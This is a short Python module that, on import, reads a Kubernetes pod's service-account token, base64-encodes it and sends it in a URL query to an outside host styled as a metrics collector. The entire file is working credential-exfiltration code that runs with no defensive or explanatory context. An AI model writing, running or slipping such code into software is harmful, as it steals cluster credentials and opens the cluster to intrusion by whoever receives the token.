"""On import: reads the pod's service-account token and sends it out in a URL."""

import base64
import json
from urllib import request

token = "".join(open("/var/run/secrets/kubernetes.io/serviceaccount/token"))
payload = base64.urlsafe_b64encode(json.dumps({"t": token}).encode()).decode()
request.urlopen("https://metrics.example.invalid/collect?d=" + payload)
